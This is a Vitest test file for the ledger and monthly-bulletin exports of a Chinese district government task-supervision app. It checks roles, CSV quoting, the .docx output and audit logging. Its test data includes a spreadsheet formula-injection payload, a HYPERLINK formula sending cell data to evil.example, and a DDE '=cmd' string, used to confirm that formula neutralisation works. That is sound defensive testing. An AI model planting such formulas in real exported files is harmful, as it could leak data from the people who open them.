import { and, asc, eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { GET as bulletinRoute } from '@/app/api/exports/bulletin/[file]/route';
import { GET as ledgerCsvRoute } from '@/app/api/exports/ledger.csv/route';
import { ENGINE } from '@/db/client';
import { auditLog, reportingPeriods, tasks, users } from '@/db/schema';
import type { SessionUser } from '@/lib/auth/account-service';
import type { Actor } from '@/lib/auth/actor';
import type { ServiceContext } from '@/lib/context';
import { ForbiddenError, NotFoundError } from '@/lib/errors';
import type { RequestMeta } from '@/lib/audit/audit-service';
import { saveReport } from '@/lib/reporting/lead-report-service';
import { saveReportSchema } from '@/lib/reporting/schemas';
import { seedIfEmpty } from '@/lib/seed/seed';
import { actorFor, contextFor, createTempDb } from '@/lib/testing/temp-db';
import { addTestList, addTestReport, livelihoodList } from '@/lib/assessment/test-lists';
import { activePlans } from '@/lib/plans/plan-scope';
import { getBulletin, listBulletinMonths, resolveBulletinMonth } from './bulletin';
import { bulletinContent } from './bulletin-content';
import { writeBulletinDocx } from './bulletin-docx';
import { csvField, neutralizeFormula, toCsv, UTF8_BOM } from './csv';
import { exportBulletinDocx, exportLedger, getExportsPage } from './export-service';
import { fileResponse } from './http';
import { getLedgerExport, ledgerTable } from './ledger-export';
import { LEDGER_HEADER_ROW, writeLedgerCsv, writeLedgerXlsx } from './ledger-files';
import { FIRST_DISTRICT_ID } from '@/lib/districts/district-scope';

/**
 * The download routes run with a session and a request context given by the test: the session
 * (next-auth) and the request's headers do not exist outside a request.
 */
const request = vi.hoisted(() => ({ user: null as SessionUser | null, context: null as ((actor: Actor) => ServiceContext) | null }));
vi.mock('@/lib/auth/session', () => ({ getSessionUser: async () => request.user }));
vi.mock('@/lib/request-context', () => ({ requestContext: async (actor: Actor) => request.context!(actor) }));

const TODAY = '2023-11-22';
const NOW = new Date('2023-11-22T09:30:00+08:00');

let env: Awaited<ReturnType<typeof createTempDb>>;
let nov: number;
let oct: number;
const ids = new Map<string, number>();
const idOf = (username: string) => ids.get(username)!;
const taskId = async (no: number) => {
  const [row] = await env.db.select({ id: tasks.id }).from(tasks).where(eq(tasks.no, no)).limit(1);
  return row!.id;
};
const ctxOf = (actor: Actor, meta?: RequestMeta) => contextFor(env.db, actor, NOW, meta);
/**
 * The lists in view for the single-list tests: the 2023 key tasks (the demo also publishes the
 * government work report as a second list, as if the user had chosen 重点任务 in the list filter).
 */
const inView = async () => (await activePlans(env.db, { kind: 'district', districtId: FIRST_DISTRICT_ID })).filter((p) => p.kind === 'key_tasks');
const auditLines = (action: string) => env.db.select().from(auditLog).where(eq(auditLog.action, action)).orderBy(asc(auditLog.id));

/** The actors of these tests (made in beforeAll, once the database exists). */
let actors: Record<'supervisor' | 'leader' | 'admin' | 'fgj' | 'fgjHead' | 'kjj', Actor>;
const supervisor = () => actors.supervisor;
const leader = () => actors.leader;
const admin = () => actors.admin;
const fgj = () => actors.fgj;
const fgjHead = () => actors.fgjHead;
const kjj = () => actors.kjj;

const KJJ_TEXT = '科技局本月独有的进展：新增高新技术企业12家';
const FGJ_DRAFT = '发改局草稿：尚未报送的进展';
const INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"点击")';
const TRICKY_PROBLEMS = '资金缺口约3,000万元，"要素保障"待协调\n第二行';

beforeAll(async () => {
  env = await createTempDb();
  // As on first start in demo mode: the plan, the demo accounts and the sample months.
  await seedIfEmpty(env.db, { demo: true, today: TODAY });
  for (const u of await env.db.select({ id: users.id, username: users.username }).from(users)) ids.set(u.username, u.id);
  actors = {
    supervisor: await actorFor(env.db, 'supervisor', '区政府督查室', idOf('duchashi')),
    leader: await actorFor(env.db, 'leader', null, idOf('lingdao')),
    admin: await actorFor(env.db, 'admin', null, idOf('admin')),
    fgj: await actorFor(env.db, 'reporter', '区发展和改革局', idOf('fgj')),
    fgjHead: await actorFor(env.db, 'unit_head', '区发展和改革局', idOf('fgj_head')),
    kjj: await actorFor(env.db, 'reporter', '区科学技术局', idOf('kjj')),
  };
  const periodOf = async (month: string) => {
    const [row] = await env.db.select({ id: reportingPeriods.id }).from(reportingPeriods).where(eq(reportingPeriods.month, month)).limit(1);
    return row!.id;
  };
  nov = await periodOf('2023-11');
  oct = await periodOf('2023-10');
  // 区科学技术局 reports on task 15 (sole lead) with text a spreadsheet would run as a formula,
  // and on task 16 (which 区发展和改革局 co-leads); 区发展和改革局 keeps a draft on task 16.
  const base = { periodId: nov, version: 0, percentDone: 80, nextSteps: '', indicatorValues: [] };
  const r15 = await saveReport(ctxOf(kjj()), saveReportSchema.parse({ ...base, taskId: await taskId(15), progress: INJECTION, problems: TRICKY_PROBLEMS, intent: 'submit' }));
  const r16 = await saveReport(ctxOf(kjj()), saveReportSchema.parse({ ...base, taskId: await taskId(16), progress: KJJ_TEXT, problems: '', intent: 'submit' }));
  const d16 = await saveReport(ctxOf(fgj()), saveReportSchema.parse({ ...base, taskId: await taskId(16), progress: FGJ_DRAFT, problems: '', intent: 'save' }));
  expect([r15.ok, r16.ok, d16.ok]).toEqual([true, true, true]);
  request.context = (actor) => ctxOf(actor);
});
afterAll(() => env.cleanup());

async function readXlsx(buffer: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buffer as unknown as ArrayBuffer);
  const ws = wb.getWorksheet('工作台账')!;
  const header = (ws.getRow(LEDGER_HEADER_ROW).values as unknown[]).slice(1).map(String);
  const rows: Record<string, unknown>[] = [];
  ws.eachRow((row, n) => {
    if (n <= LEDGER_HEADER_ROW) return;
    const values = (row.values as unknown[]).slice(1);
    rows.push(Object.fromEntries(header.map((h, i) => [h, values[i] ?? null])));
  });
  return { ws, header, rows };
}

const allText = (rows: Record<string, unknown>[]) => rows.map((r) => Object.values(r).map((v) => String(v ?? '')).join('|')).join('\n');

describe('csv helpers', () => {
  it('neutralises cells that a spreadsheet would run as a formula', () => {
    for (const v of ['=cmd', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1']) expect(neutralizeFormula(v)).toBe(`'${v}`);
    for (const v of ['区发展和改革局', '85', '已通过 60%', '']) expect(neutralizeFormula(v)).toBe(v);
  });

  it('quotes commas, quotes and line breaks (RFC 4180) and starts with a BOM', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('line1\nline2')).toBe('"line1\nline2"');
    expect(csvField('=cmd|\' /C calc\'!A0')).toBe("'=cmd|' /C calc'!A0");
    expect(csvField('=1,2')).toBe(`"'=1,2"`);
    expect(csvField(85)).toBe('85');
    expect(csvField(null)).toBe('');
    const doc = toCsv([
      ['a', 'b'],
      ['1', 'x,y'],
    ]);
    expect(doc.startsWith(UTF8_BOM)).toBe(true);
    expect(doc).toBe(`${UTF8_BOM}a,b\r\n1,"x,y"\r\n`);
  });
});

describe('ledger export (工作台账)', () => {
  it('gives the office all 77 tasks, with the indicator columns and task 15’s targets 85 and 90', async () => {
    const { body, fileName } = await exportLedger(ctxOf(supervisor()), await inView(), 'xlsx');
    expect(fileName).toBe(`工作台账-${TODAY}.xlsx`);
    const { ws, header, rows } = await readXlsx(body);
    expect(rows).toHaveLength(77);
    expect(rows.map((r) => r['序号'])).toEqual(Array.from({ length: 77 }, (_, i) => i + 1));
    expect(String(ws.getRow(1).getCell(1).value)).toContain('工作台账');
    expect(String(ws.getRow(1).getCell(1).value)).toContain(TODAY);
    // Fixed indicator column groups, as many as the task with the most indicators has (5).
    for (let i = 1; i <= 5; i += 1) {
      expect(header).toEqual(expect.arrayContaining([`指标${i}名称`, `指标${i}目标`, `指标${i}累计完成`, `指标${i}完成率`]));
    }
    expect(header).not.toContain('指标6名称');
    expect(header).toEqual(
      expect.arrayContaining(['序号', '部分', '任务', '牵头单位', '参与单位', '本期进展（2023年11月）', '存在问题', '报送状态', '报送预警', '进度预警', '指标预警', '督查亮灯', '2023年9月', '2023年10月', '2023年11月', '2023年12月']),
    );
    const t15 = rows.find((r) => r['序号'] === 15)!;
    expect(t15['任务']).toBe('大力培育科技型企业');
    expect(t15['牵头单位']).toBe('区科学技术局');
    expect(t15['指标1名称']).toBe('国家高新技术企业总量（家）');
    expect(t15['指标1目标']).toBe(85);
    expect(t15['指标2名称']).toBe('科技型中小企业（家）');
    expect(t15['指标2目标']).toBe(90);
    expect(typeof t15['指标1累计完成']).toBe('number');
    expect(t15['报送状态']).toBe('已报送');
    expect(String(t15['报送预警'])).toMatch(/^[红黄绿]：/);
    expect(t15['2023年12月']).toBe('未开始');
    expect(String(t15['2023年11月'])).toBe('已报送 80%');
    // Header frozen, bold, wrapped; column widths set.
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: LEDGER_HEADER_ROW });
    expect(ws.getRow(LEDGER_HEADER_ROW).getCell(1).font?.bold).toBe(true);
    expect(ws.getColumn(3).width).toBeGreaterThan(10);
    expect(ws.getRow(LEDGER_HEADER_ROW + 1).getCell(3).alignment?.wrapText).toBe(true);
  });

  it('shows each lead unit’s submitted text with 【unit】, never a unit’s draft text', async () => {
    const { rows } = await readXlsx(await writeLedgerXlsx(await getLedgerExport(ctxOf(leader()), await inView()), NOW));
    const t16 = rows.find((r) => r['序号'] === 16)!;
    expect(t16['本期进展（2023年11月）']).toBe(`【区科学技术局】${KJJ_TEXT}`);
    expect(String(t16['报送状态'])).toContain('【区发展和改革局】草稿');
    expect(String(t16['报送状态'])).toContain('【区科学技术局】已报送');
    expect(allText(rows)).not.toContain(FGJ_DRAFT);
  });

  it('neutralises formula text in the .xlsx too', async () => {
    const { rows } = await readXlsx(await writeLedgerXlsx(await getLedgerExport(ctxOf(admin()), await inView()), NOW));
    const t15 = rows.find((r) => r['序号'] === 15)!;
    expect(t15['本期进展（2023年11月）']).toBe(`'${INJECTION}`);
    expect(t15['存在问题']).toBe(TRICKY_PROBLEMS);
  });

  it('gives unit staff only their unit’s tasks and only their own report text', async () => {
    for (const actor of [fgj(), fgjHead()]) {
      const { body } = await exportLedger(ctxOf(actor), await inView(), 'xlsx');
      const { ws, rows } = await readXlsx(body);
      expect(String(ws.getRow(1).getCell(1).value)).toContain('区发展和改革局');
      expect(rows).toHaveLength(17); // leads 13, joins 4
      for (const r of rows) expect(`${r['牵头单位']}、${r['参与单位']}`).toContain('区发展和改革局');
      const text = allText(rows);
      expect(text).not.toContain(KJJ_TEXT);
      expect(text).not.toContain('【区科学技术局】已报送');
      const t16 = rows.find((r) => r['序号'] === 16)!;
      expect(t16['本期进展（2023年11月）']).toBe(`【区发展和改革局】${FGJ_DRAFT}`);
      expect(t16['报送状态']).toBe('【区发展和改革局】草稿');
      expect(rows.some((r) => r['序号'] === 15)).toBe(false);
      // A task the unit only joins: its own part's state, no lead unit's report.
      const joined = rows.find((r) => !String(r['牵头单位']).includes('区发展和改革局'))!;
      expect(String(joined['报送状态'])).toMatch(/^协办：/);
    }
  });

  it('writes a CSV with BOM, quoted fields and neutralised formulas', async () => {
    const { body, fileName, contentType } = await exportLedger(ctxOf(supervisor()), await inView(), 'csv');
    expect(fileName).toBe(`工作台账-${TODAY}.csv`);
    expect(contentType).toBe('text/csv; charset=utf-8');
    expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = body.toString('utf8');
    expect(text.startsWith(`${UTF8_BOM}序号,部分,任务,牵头单位,参与单位,指标1名称,指标1目标`)).toBe(true);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")"`);
    expect(text).toContain('"资金缺口约3,000万元，""要素保障""待协调\n第二行"');
    expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
    expect(text).toContain('国家高新技术企业总量（家）,85,');
    // 77 data lines after the header (a quoted field may hold line breaks, so count row starts).
    expect(writeLedgerCsv(await getLedgerExport(ctxOf(supervisor()), await inView())).match(/\r\n\d+,[一二三四五六七八九十]+、/g)).toHaveLength(77);
  });

  it('gathers the data in bulk, not one query per task', async () => {
    const lists = await inView();
    // Each statement the engine is given: SQLite prepares it, the PostgreSQL pool is sent it.
    const client = env.db.$client as unknown as Record<'prepare' | 'query', (...args: unknown[]) => unknown>;
    const spy = vi.spyOn(client, ENGINE === 'postgres' ? 'query' : 'prepare');
    let statements = 0;
    try {
      const model = await getLedgerExport(ctxOf(supervisor()), lists);
      expect(model.rows).toHaveLength(77);
      statements = spy.mock.calls.length;
    } finally {
      spy.mockRestore();
    }
    expect(statements).toBeLessThan(25);
  });

  it('records each export in the audit trail, with the unit for unit staff', async () => {
    const before = (await auditLines('export.ledger')).length;
    await exportLedger(ctxOf(fgj(), { ip: '10.0.0.8' }), await inView(), 'csv');
    const lines = await auditLines('export.ledger');
    expect(lines).toHaveLength(before + 1);
    const last = lines[lines.length - 1]!;
    expect(last).toMatchObject({ actorId: idOf('fgj'), unitId: fgj().unitId, ip: '10.0.0.8', entityType: 'export' });
    expect(JSON.parse(last.detail!)).toMatchObject({ format: 'csv', rows: 17 });
  });

  it('the table has one cell per column in every row', async () => {
    const table = ledgerTable(await getLedgerExport(ctxOf(kjj()), await inView()));
    expect(table.rows.length).toBeGreaterThan(0);
    for (const row of table.rows) expect(row).toHaveLength(table.columns.length);
  });
});

describe('monthly bulletin (月度调度通报)', () => {
  it('is refused to unit staff', async () => {
    for (const actor of [fgj(), fgjHead(), kjj()]) {
      const ctx = ctxOf(actor);
      await expect(getBulletin(ctx, '2023-11')).rejects.toThrow(ForbiddenError);
      await expect(exportBulletinDocx(ctx, '2023-11')).rejects.toThrow(ForbiddenError);
      await expect(listBulletinMonths(ctx)).rejects.toThrow(ForbiddenError);
      await expect(resolveBulletinMonth(ctx, String(nov))).rejects.toThrow(ForbiddenError);
      expect((await getExportsPage(ctx, await inView())).bulletins).toBeNull();
    }
    expect(await auditLines('export.bulletin')).toHaveLength(0);
  });

  it('summarises the month: reports due, sent, on time, reviewed; parts; lights', async () => {
    const b = await getBulletin(ctxOf(leader()), '2023-10');
    expect(b.issue.label).toBe('（2023年第10期）');
    expect(b.issuer).toBe('河东区人民政府督查室');
    expect(b.asOf).toBe('2023-10-31');
    const s = b.summary;
    expect(s.tasks).toBe(77);
    expect(s.tasksWithLead).toBe(74);
    expect(s.leadDue).toBe(135);
    expect(s.partsDue).toBe(44);
    expect(s.leadSubmitted).toBe(s.leadApproved + s.leadPendingReview + s.leadReturned);
    expect(s.leadMissing).toBe(s.leadDue - s.leadSubmitted);
    expect(s.leadOnTime).toBeLessThanOrEqual(s.leadSubmitted);
    expect(s.leadOnTimeRate).toBeCloseTo(s.leadOnTime / s.leadDue);
    expect(s.signals.late.red).toBeGreaterThan(0);
    // Every lead report missing after the deadline is on the overdue list, with days overdue as of today.
    const missingLead = b.overdue.filter((o) => o.kind === 'lead');
    expect(missingLead).toHaveLength(s.leadMissing);
    expect(missingLead.length).toBeGreaterThan(0);
    expect(missingLead.every((o) => o.daysOverdue === 28 && o.dueDate === '2023-10-25')).toBe(true);
    // Returned lead reports not yet resubmitted are listed with their resubmission deadline.
    expect(b.overdue.filter((o) => o.kind === 'returned' && o.note.startsWith('牵头'))).toHaveLength(s.leadReturned);
  });

  it('commends the top five by score (ties included) and names lagging units', async () => {
    const b = await getBulletin(ctxOf(supervisor()), '2023-10');
    expect(b.commended.length).toBeGreaterThanOrEqual(5);
    expect(b.commended.every((u) => (u.rank ?? 99) <= 5)).toBe(true);
    const bottom = [...b.lagging].filter((u) => u.total !== null).sort((x, y) => x.total! - y.total!);
    expect(bottom.length).toBeGreaterThanOrEqual(5);
    // Units with an overdue lead report are lagging, whatever their score, and never commended.
    const lateUnits = new Set(b.overdue.filter((o) => o.kind === 'lead').map((o) => o.unitName));
    expect(lateUnits.has('区科学技术局')).toBe(true);
    for (const name of lateUnits) {
      expect(b.lagging.map((u) => u.unitName)).toContain(name);
      expect(b.commended.map((u) => u.unitName)).not.toContain(name);
    }
    const kjjRow = b.lagging.find((u) => u.unitName === '区科学技术局')!;
    expect(kjjRow.reasons.join('；')).toMatch(/逾期未报送 2 项（任务 15、16）/);
  });

  it('lists the notices issued in the month and those past due', async () => {
    const b = await getBulletin(ctxOf(admin()), '2023-11');
    // The demo's 督办单 (lib/seed/demo-oversight.ts): the two issued in November, not October's (closed).
    expect(b.notices.map((n) => [n.no, n.levelLabel, n.taskRef, n.units.join('、'), n.issuedOn, n.dueDate, n.statusLabel])).toEqual([
      ['督办〔2023〕第2号', '黄牌督办', '重点任务 10', '区发展和改革局', '2023-11-10', '2023-11-25', '办理中'],
      ['督办〔2023〕第3号', '红牌督办', '重点任务 8', '区工业和信息化局', '2023-11-17', '2023-11-28', '办理中'],
    ]);
    expect(b.overdue.some((o) => o.kind === 'part' && o.daysOverdue === 2)).toBe(true);
    // The November lead deadline (25th) has not passed: no lead report is overdue yet.
    expect(b.overdue.filter((o) => o.kind === 'lead')).toEqual([]);
  });

  it('has one set of numbered sections for print and Word', async () => {
    const c = bulletinContent(await getBulletin(ctxOf(supervisor()), '2023-11'));
    expect(c.titleLines.join('')).toBe('河东区重点工作任务月度调度通报');
    expect(c.issueLine).toBe('（2023年第11期）');
    expect(c.dateLine).toBe('2023年11月22日');
    expect(c.sections.map((s) => `${s.numeral}、${s.title}`)).toEqual(['一、总体情况', '二、通报表扬', '三、工作滞后单位', '四、逾期事项', '五、督办单下发情况', '六、下步工作要求']);
  });

  it('writes a .docx with the period, the lagging units, A4 and the official fonts', async () => {
    const { body, fileName, contentType } = await exportBulletinDocx(ctxOf(supervisor(), { ip: '10.0.0.9' }), '2023-10');
    expect(fileName).toBe('月度调度通报-2023年10月.docx');
    expect(contentType).toBe('application/vnd.openxmlformats-officedocument.wordprocessingml.document');
    const zip = await JSZip.loadAsync(body);
    const xml = await zip.file('word/document.xml')!.async('string');
    expect(xml).toContain('（2023年第10期）');
    expect(xml).toContain('2023年10月');
    expect(xml).toContain('河东区人民政府督查室');
    expect(xml).toContain('月度调度通报');
    const b = await getBulletin(ctxOf(supervisor()), '2023-10');
    expect(b.lagging.length).toBeGreaterThan(0);
    for (const u of b.lagging) expect(xml).toContain(u.unitName);
    for (const u of b.commended) expect(xml).toContain(u.unitName);
    expect(xml).toContain('w:eastAsia="仿宋_GB2312"');
    expect(xml).toContain('w:eastAsia="方正小标宋简体"');
    expect(xml).toMatch(/<w:pgSz w:w="11906" w:h="16838"/);
    expect(xml).toContain('<w:tbl>');
    const audit = await env.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.action, 'export.bulletin'), eq(auditLog.entityId, oct)));
    expect(audit).toHaveLength(1);
    expect(audit[0]).toMatchObject({ actorId: idOf('duchashi'), ip: '10.0.0.9' });
  });

  it('is only issued for months that have begun', async () => {
    const ctx = ctxOf(supervisor());
    await expect(getBulletin(ctx, '2023-12')).rejects.toThrow(NotFoundError);
    await expect(getBulletin(ctx, '2023-12')).rejects.toThrow(/尚未开始/);
    await expect(getBulletin(ctx, '2022-01')).rejects.toThrow(NotFoundError);
    await expect(getBulletin(ctx, '2022-01')).rejects.toThrow(/找不到/);
    await expect(getBulletin(ctx, '9999')).rejects.toThrow(/找不到/);
    expect((await listBulletinMonths(ctx)).map((p) => p.month)).toEqual(['2023-11', '2023-10', '2023-09']);
    // Older links name a period's id: read as its month.
    expect(await resolveBulletinMonth(ctx, String(oct))).toBe('2023-10');
    expect(await resolveBulletinMonth(ctx, '2023-10')).toBe('2023-10');
    await expect(resolveBulletinMonth(ctx, '9999')).rejects.toThrow(NotFoundError);
    await expect(resolveBulletinMonth(ctx, '9999')).rejects.toThrow(/找不到/);
  });

  it('the .docx renders a bulletin with empty lists too', async () => {
    const b = await getBulletin(ctxOf(supervisor()), '2023-11');
    const buffer = await writeBulletinDocx({ ...b, commended: [], lagging: [], overdue: [], notices: [] });
    const xml = await (await JSZip.loadAsync(buffer)).file('word/document.xml')!.async('string');
    expect(xml).toContain('暂无通报表扬单位');
  });
});

describe('download responses', () => {
  const file = { body: Buffer.from('x'), fileName: '工作台账-2023-11-22.xlsx', contentType: 'application/octet-stream' };
  const as = (actor: Actor | null, mustChangePassword = false) => {
    request.user = actor && { ...actor, mustChangePassword };
  };
  const bulletin = (name: string) => bulletinRoute(new Request(`http://localhost/api/exports/bulletin/${name}`), { params: Promise.resolve({ file: name }) });
  const ledgerCsv = () => ledgerCsvRoute(new Request('http://localhost/api/exports/ledger.csv'), { params: Promise.resolve({}) });

  it('sends an attachment with the Chinese name kept (RFC 5987) and nosniff', async () => {
    const res = fileResponse(file);
    expect(res.status).toBe(200);
    expect(res.headers.get('Content-Disposition')).toBe(`attachment; filename="????-2023-11-22.xlsx"; filename*=UTF-8''${encodeURIComponent('工作台账')}-2023-11-22.xlsx`);
    expect(res.headers.get('X-Content-Type-Options')).toBe('nosniff');
    expect(await res.text()).toBe('x');
    // Through the route: the session user's file.
    as(fgj());
    const csv = await ledgerCsv();
    expect(csv.status).toBe(200);
    expect(csv.headers.get('Content-Disposition')).toContain(`filename*=UTF-8''${encodeURIComponent('工作台账')}-${TODAY}.csv`);
    expect(csv.headers.get('X-Content-Type-Options')).toBe('nosniff');
  });

  it('refuses with a Chinese message: 401 without a session, 403 when not allowed, 404 when missing', async () => {
    as(null);
    const anonymous = await ledgerCsv();
    expect(anonymous.status).toBe(401);
    expect(await anonymous.text()).toBe('请先登录');
    expect((await bulletin('2023-11.docx')).status).toBe(401);
    as(supervisor(), true);
    expect((await ledgerCsv()).status).toBe(403);
    as(fgj());
    const forbidden = await bulletin('2023-11.docx');
    expect(forbidden.status).toBe(403);
    expect(await forbidden.text()).toMatch(/权限/);
    expect((await bulletin(`${nov}.docx`)).status).toBe(403);
    as(supervisor());
    const missing = await bulletin('2022-01.docx');
    expect(missing.status).toBe(404);
    expect(await missing.text()).toMatch(/找不到/);
    const badName = await bulletin('2023-11.pdf');
    expect(badName.status).toBe(404);
    expect(await badName.text()).toMatch(/找不到/);
  });
});

describe('two active lists (a monthly and a quarterly one)', () => {
  let env2: Awaited<ReturnType<typeof createTempDb>>;
  const ids2 = new Map<string, number>();
  const id2 = (username: string) => ids2.get(username)!;
  let actors2: Record<'supervisor' | 'fgj', Actor>;
  const sup2 = () => contextFor(env2.db, actors2.supervisor, NOW);
  const fgj2 = () => contextFor(env2.db, actors2.fgj, NOW);
  const both = () => activePlans(env2.db, { kind: 'district', districtId: FIRST_DISTRICT_ID });

  beforeAll(async () => {
    env2 = await createTempDb();
    // The 2023 key tasks and the demo accounts only (no sample months, no work report): the list added here is the second.
    await seedIfEmpty(env2.db, { demo: true });
    for (const u of await env2.db.select({ id: users.id, username: users.username }).from(users)) ids2.set(u.username, u.id);
    actors2 = {
      supervisor: await actorFor(env2.db, 'supervisor', '区政府督查室', id2('duchashi')),
      fgj: await actorFor(env2.db, 'reporter', '区发展和改革局', id2('fgj')),
    };
    const { plan, taskIds } = await addTestList(
      env2.db,
      livelihoodList(
        [
          { no: 1, title: '新建社区养老服务中心', lead: ['区发展和改革局'], participating: ['区民政局'], leaders: ['王副区长', '李副区长'], deadlineText: '2023年12月底前' },
          { no: 2, title: '改造老旧小区', lead: ['区民政局'] },
          { no: 3, title: '建设科普场馆', lead: ['区科学技术局'] },
        ],
        { cadence: 'quarterly', weight: 2 },
      ),
    );
    const [sep] = await env2.db
      .select({ id: reportingPeriods.id })
      .from(reportingPeriods)
      .where(and(eq(reportingPeriods.planId, plan.id), eq(reportingPeriods.month, '2023-09')))
      .limit(1);
    await addTestReport(env2.db, { taskId: taskIds.get(1)!, periodId: sep!.id, unitName: '区发展和改革局', status: 'approved', submittedAt: new Date('2023-09-20T10:00:00+08:00'), progress: '养老服务中心主体完工' });
  });
  afterAll(() => env2.cleanup());

  it('the ledger covers every list in view, with 清单, 任务编号, 责任领导 and 完成时限', async () => {
    const { body } = await exportLedger(sup2(), await both(), 'xlsx');
    const { ws, header, rows } = await readXlsx(body);
    expect(rows).toHaveLength(80);
    expect(String(ws.getRow(1).getCell(1).value)).toContain('重点任务、民生实事工作台账');
    expect(header).toEqual(expect.arrayContaining(['清单', '任务编号', '责任领导', '完成时限', '本期月份', '本期进展（各清单本期）', '2023年3月', '2023年6月', '2023年9月', '2023年12月']));
    // The key tasks first, then the livelihood items, each in its order.
    expect(rows.slice(0, 77).every((r) => r['清单'] === '重点任务')).toBe(true);
    expect(rows[0]!['任务编号']).toBe('重点任务 1');
    const item = rows.find((r) => r['任务编号'] === '民生实事 1')!;
    expect(item).toMatchObject({ 清单: '民生实事', 序号: 1, 任务: '新建社区养老服务中心', 责任领导: '王副区长、李副区长', 完成时限: '2023年12月底前', 牵头单位: '区发展和改革局' });
    // A quarterly list: its current period is September (the latest begun); no October period.
    expect(item['本期月份']).toBe('2023年9月');
    expect(item['本期进展（各清单本期）']).toBe('养老服务中心主体完工');
    expect(item['2023年10月']).toBe('不调度');
    expect(String(item['2023年9月'])).toBe('已通过 60%');
    expect(rows.find((r) => r['任务编号'] === '重点任务 15')!['2023年3月']).toBe('不调度');
    expect(rows.find((r) => r['任务编号'] === '重点任务 15')!['本期月份']).toBe('2023年11月');
    const table = ledgerTable(await getLedgerExport(sup2(), await both()));
    expect(table.rows.length).toBeGreaterThan(0);
    for (const row of table.rows) expect(row).toHaveLength(table.columns.length);
  });

  it('unit staff get their unit’s tasks of every list; one list in view gives that list only', async () => {
    const mine = await getLedgerExport(fgj2(), await both());
    expect(mine.rows).toHaveLength(18);
    expect(mine.rows.filter((r) => r.planName === '民生实事').map((r) => r.label)).toEqual(['民生实事 1']);
    const livelihood = (await both()).find((p) => p.shortName === '民生实事')!;
    const only = await getLedgerExport(sup2(), [livelihood]);
    expect(only.rows.map((r) => r.label)).toEqual(['民生实事 1', '民生实事 2', '民生实事 3']);
    expect(only.months.map((m) => m.month)).toEqual(['2023-03', '2023-06', '2023-09', '2023-12']);
    expect(ledgerTable(only).title).toContain('河东区2023年民生实事项目工作台账');
    // No list in view: an empty ledger.
    expect((await getLedgerExport(sup2(), [])).rows).toEqual([]);
    const csv = writeLedgerCsv(await getLedgerExport(sup2(), await both()));
    expect(csv).toContain(',民生实事,民生实事 1,王副区长、李副区长,2023年12月底前,');
  });

  it('the bulletin of a month covers every active list with a period in it', async () => {
    expect((await listBulletinMonths(sup2())).map((m) => m.month)).toEqual(['2023-11', '2023-10', '2023-09', '2023-06', '2023-03']);
    const sep = await getBulletin(sup2(), '2023-09');
    expect(sep.lists.map((l) => [l.name, l.summary.tasks])).toEqual([
      ['重点任务', 77],
      ['民生实事', 3],
    ]);
    expect(sep.summary.tasks).toBe(80);
    expect(sep.summary.leadDue).toBe(sep.lists[0]!.summary.leadDue + 3);
    expect(sep.summary.leadSubmitted).toBe(sep.lists[0]!.summary.leadSubmitted + 1);
    // 区民政局 and 区科学技术局 did not report on their livelihood items: named with the list.
    const late = sep.overdue.filter((o) => o.kind === 'lead' && o.taskRef.startsWith('民生实事'));
    expect(late.map((o) => [o.taskRef, o.unitName])).toEqual([
      ['民生实事 2', '区民政局'],
      ['民生实事 3', '区科学技术局'],
    ]);
    const lateOfFirst = sep.overdue.filter((o) => o.kind === 'lead' && !o.taskRef.startsWith('民生实事'));
    expect(lateOfFirst.length).toBeGreaterThan(0);
    expect(lateOfFirst.every((o) => o.taskRef.startsWith('重点任务 '))).toBe(true);
    const kjjRow = sep.lagging.find((u) => u.unitName === '区科学技术局');
    if (kjjRow) expect(kjjRow.reasons.join('；')).toMatch(/民生实事 3/);
    const c = bulletinContent(sep);
    expect(c.sections[0]!.blocks.some((b) => b.type === 'table' && b.table.id === 'lists')).toBe(true);
    expect(c.sections[0]!.blocks[0]).toMatchObject({ type: 'para', text: expect.stringContaining('重点任务、民生实事 2 个清单共 80 项任务') });
    // October: the quarterly list has no period; the bulletin is the monthly list's alone.
    const oct2 = await getBulletin(sup2(), '2023-10');
    expect(oct2.lists.map((l) => l.name)).toEqual(['重点任务']);
    expect(oct2.overdue.length).toBeGreaterThan(0);
    expect(oct2.overdue.every((o) => /^\d+$/.test(o.taskRef))).toBe(true);
    // June: the quarterly list alone.
    expect((await getBulletin(sup2(), '2023-06')).lists.map((l) => l.name)).toEqual(['民生实事']);
  });

  it('the exports page links the bulletins by month', async () => {
    const page = await getExportsPage(sup2(), await both());
    expect(page.planTitle).toBe('重点任务、民生实事（2 个清单）');
    expect(page.bulletins?.[0]).toMatchObject({ month: '2023-11', printHref: '/print/bulletin/2023-11', docxHref: '/api/exports/bulletin/2023-11.docx' });
  });
});
